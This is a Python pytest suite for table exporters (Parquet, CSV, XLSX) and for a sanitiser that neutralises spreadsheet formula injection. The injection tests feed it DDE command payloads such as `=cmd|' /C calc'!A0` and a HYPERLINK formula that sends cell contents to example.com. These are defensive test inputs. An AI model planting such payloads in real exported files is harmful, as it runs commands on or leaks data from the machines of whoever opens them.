"""Tables as files, read back; cells that a spreadsheet would run."""

import csv
import io
from datetime import UTC, date, datetime
from typing import Any
from zipfile import ZipFile

import openpyxl
import pyarrow as pa
import pyarrow.parquet
import pytest

from etl.exports import WRITERS, harmless
from etl.workbook import Workbook

SCHEMA = pa.schema(
    [
        ("id", pa.int64()),
        ("name", pa.string()),
        ("day", pa.date32()),
        ("mean", pa.float64()),
        ("ids", pa.list_(pa.int64())),
        ("at", pa.timestamp("us", "UTC")),
        ("flag", pa.bool_()),
    ]
)
AT = datetime(2026, 11, 26, 12, 0, 0, 123456, UTC)
ROWS = [
    (1, 'Élodie, the "first"', date(2024, 2, 29), 10.2, [1, 2], AT, True),
    (-(1 << 63), "two\nlines", date(1900, 3, 1), 1e-7, [], AT, False),
    ((1 << 53) + 1, "", date(1899, 12, 31), -5e300, [(1 << 63) - 1], AT, None),
    (1 << 53, None, None, None, None, None, None),
]


def _written(format_: str, *batches: pa.RecordBatch) -> io.BytesIO:
    file = io.BytesIO()
    writer = WRITERS[format_](file, batches[0].schema)
    for batch in batches:
        writer.write(batch)
    writer.close()
    return io.BytesIO(file.getvalue())


def _batch(rows: list[tuple[Any, ...]] = ROWS, schema: pa.Schema = SCHEMA) -> pa.RecordBatch:
    columns = [pa.array(values, type_) for values, type_ in zip(zip(*rows, strict=True), schema.types, strict=True)]
    return pa.RecordBatch.from_arrays(columns, schema=schema)


def _texts(*texts: str) -> pa.RecordBatch:
    return pa.RecordBatch.from_arrays([pa.array(texts)], names=["text"])


def _sheets(file: io.BytesIO) -> list[list[tuple[Any, ...]]]:
    """The values of each sheet; a day is a date again."""

    def plain(value: Any) -> Any:
        return value.date() if isinstance(value, datetime) else value

    return [[tuple(map(plain, row)) for row in sheet.values] for sheet in openpyxl.load_workbook(file)]


def test_parquet_has_every_value_and_type() -> None:
    table = pyarrow.parquet.read_table(_written("parquet", _batch(ROWS[:3]), _batch(ROWS[3:])))

    assert table.schema.equals(SCHEMA)
    assert [tuple(row.values()) for row in table.to_pylist()] == ROWS


def test_csv_has_every_value() -> None:
    text = _written("csv", _batch(ROWS[:3]), _batch(ROWS[3:])).getvalue().decode()

    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["id", "name", "day", "mean", "ids", "at", "flag"],
        ["1", 'Élodie, the "first"', "2024-02-29", "10.2", "1;2", "2026-11-26 12:00:00.123456Z", "true"],
        [str(-(1 << 63)), "two\nlines", "1900-03-01", "1e-7", "", "2026-11-26 12:00:00.123456Z", "false"],
        [str((1 << 53) + 1), "", "1899-12-31", "-5e+300", str((1 << 63) - 1), "2026-11-26 12:00:00.123456Z", ""],
        [str(1 << 53), *[""] * 6],
    ]
    assert text.startswith("id,name,day,mean,ids,at,flag\r\n")
    assert text.endswith("\r\n")


def test_a_workbook_has_every_value_and_rounds_none() -> None:
    [[header, *rows]] = _sheets(_written("xlsx", _batch(ROWS[:3]), _batch(ROWS[3:])))

    assert header == ("id", "name", "day", "mean", "ids", "at", "flag")
    at = "2026-11-26 12:00:00.123456Z"
    assert rows == [
        (1, 'Élodie, the "first"', date(2024, 2, 29), 10.2, "1;2", at, True),
        (str(-(1 << 63)), "two\nlines", date(1900, 3, 1), 1e-7, "", at, False),
        (str((1 << 53) + 1), "", "1899-12-31", -5e300, str((1 << 63) - 1), at, None),
        (1 << 53, *[None] * 6),
    ]


def test_a_full_sheet_is_followed_by_another() -> None:
    file = io.BytesIO()
    workbook = Workbook(file, ["text"], rows_max=3)
    for texts in (["a"], ["b", "c", "d", "e"], ["f"]):
        workbook.write(_texts(*texts))
    workbook.close()

    assert _sheets(file) == [[("text",), ("a",), ("b",)], [("text",), ("c",), ("d",)], [("text",), ("e",), ("f",)]]


def test_a_sheet_that_is_exactly_full_has_none_after_it() -> None:
    file = io.BytesIO()
    workbook = Workbook(file, ["text"], rows_max=3)
    workbook.write(_texts("a", "b"))
    workbook.close()

    assert _sheets(file) == [[("text",), ("a",), ("b",)]]


@pytest.mark.parametrize("format_", list(WRITERS))
def test_a_table_without_rows_is_a_file_with_its_columns(format_: str) -> None:
    file = io.BytesIO()
    WRITERS[format_](file, SCHEMA).close()
    file = io.BytesIO(file.getvalue())

    if format_ == "parquet":
        assert pyarrow.parquet.read_table(file).schema.equals(SCHEMA)
    elif format_ == "xlsx":
        assert _sheets(file) == [[tuple(SCHEMA.names)]]
    else:
        assert file.getvalue() == b"id,name,day,mean,ids,at,flag\r\n"


def test_a_workbook_has_neither_formulas_nor_links() -> None:
    texts = [
        "=1+1",
        '=HYPERLINK("http://example.com")',
        "http://example.com",
        "{=1}",
        "mailto:a@example.com",
        "5",
        " x ",
    ]

    file = _written("xlsx", _texts(*texts))

    cells = [cell for row in openpyxl.load_workbook(file).worksheets[0].iter_rows(min_row=2) for cell in row]
    assert [(cell.value, cell.data_type, cell.hyperlink) for cell in cells] == [(text, "s", None) for text in texts]
    sheet = ZipFile(file).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet
    assert b"hyperlink" not in sheet.lower().replace(b"=hyperlink", b"")


def test_a_workbook_holds_characters_that_xml_does_not() -> None:
    text = _written("xlsx", _texts("a\x01b\rc\ufffe", "_x0041_", "<&>\t\n"))

    sheet = ZipFile(text).read("xl/worksheets/sheet1.xml").decode()
    assert "a_x0001_b_x000D_c_xFFFE_" in sheet
    assert "_x005F_x0041_" in sheet
    assert "&lt;&amp;&gt;\t\n" in sheet


def test_a_text_is_cut_where_excel_has_no_room_for_it() -> None:
    [[_, (plain,), (wide,)]] = _sheets(_written("xlsx", _texts("x" * 40_000, "\U0001f600" * 20_000)))

    assert plain == "x" * 32_767
    assert wide == "\U0001f600" * 16_383


def test_the_same_rows_make_the_same_file() -> None:
    for format_ in WRITERS:
        assert _written(format_, _batch()).getvalue() == _written(format_, _batch()).getvalue()


# --- formulas in CSV


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.com?x="&A1)',
        "+1+1",
        "+cmd|' /C calc'!A0",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\uff1d1+1",
        "=",
        "-",
        "+",
        "-e5",
        "-5 ",
        "-1,5",
        "--5",
        "-\u0665",
        "-inf",
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_a_quote(value: str) -> None:
    assert harmless(value) == f"'{value}"


def test_a_semicolon_may_be_where_a_cell_begins() -> None:
    assert harmless("1;=1+1;2") == "1;'=1+1;2"
    assert harmless("=1;-5;x") == "'=1;-5;x"
    assert harmless("1;-2;+3") == "1;-2;+3"


@pytest.mark.parametrize("end", ["\r", "\n", "\r\n"])
def test_a_line_end_may_be_where_a_row_begins(end: str) -> None:
    assert harmless(f"a{end}=cmd|' /C calc'!A0") == f"a{end}'=cmd|' /C calc'!A0"
    assert harmless(f"{end}=1+1{end}{end}@x;=2") == f"{end}'=1+1{end}{end}'@x;'=2"
    assert harmless(f"{end}a{end}-5{end}") == f"{end}a{end}-5{end}"


@pytest.mark.parametrize(
    "value",
    [
        *("-5", "+1.5e3", "-.5", "+5.", "-1E-7", "5", "", "x=1", "a@example.com", "2024-01-01", "'=1+1", " =1+1", "#"),
    ],
)
def test_numbers_and_other_text_stay_as_they_are(value: str) -> None:
    assert harmless(value) == value


def test_every_cell_of_csv_is_made_harmless_and_read_back_as_one() -> None:
    texts = ["a", "=1", '=HYPERLINK("x","y")', "\r=1", "-5", "l1\nl2", "l1\r\n=2", "1;=2", "\uff1d1"]

    lines = list(csv.reader(io.StringIO(_written("csv", _texts(*texts)).getvalue().decode(), newline="")))

    assert [cell for [cell] in lines[1:]] == [
        "a",
        "'=1",
        '\'=HYPERLINK("x","y")',
        "\r'=1",
        "-5",
        "l1\nl2",
        "l1\r\n'=2",
        "1;'=2",
        "'\uff1d1",
    ]
